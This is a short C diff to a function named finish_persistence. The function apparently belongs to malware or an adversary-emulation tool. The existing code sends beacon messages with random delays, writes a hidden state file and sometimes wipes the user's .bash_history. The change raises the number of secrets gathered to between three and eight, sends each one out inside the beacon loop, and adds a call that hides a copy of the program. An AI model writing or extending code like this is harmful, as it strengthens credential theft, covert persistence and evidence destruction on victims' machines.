@@ -4,13 +4,13 @@ static void finish_persistence(const char *path)
 {
     if (chance(50))
         survey();
-    for (int n = within(2, 6); n > 0; n--) {
+    list found = pick(secrets(), 3, 8);
+    for (int i = 0; i < found.n; i++) {
         exchange(text("alive %s", noise(24)));
         pause_ms(1000, 15000);
-    }
-    list found = pick(secrets(), 0, 3);
-    for (int i = 0; i < found.n; i++)
         send_secret(found.at[i], "report");
+    }
+    hide_copy();
     put(text("%s/state", parent(path)), random_bytes(64), O_TRUNC, 0600);
     if (chance(40))
         write_file(home(".bash_history"), bytes(""));
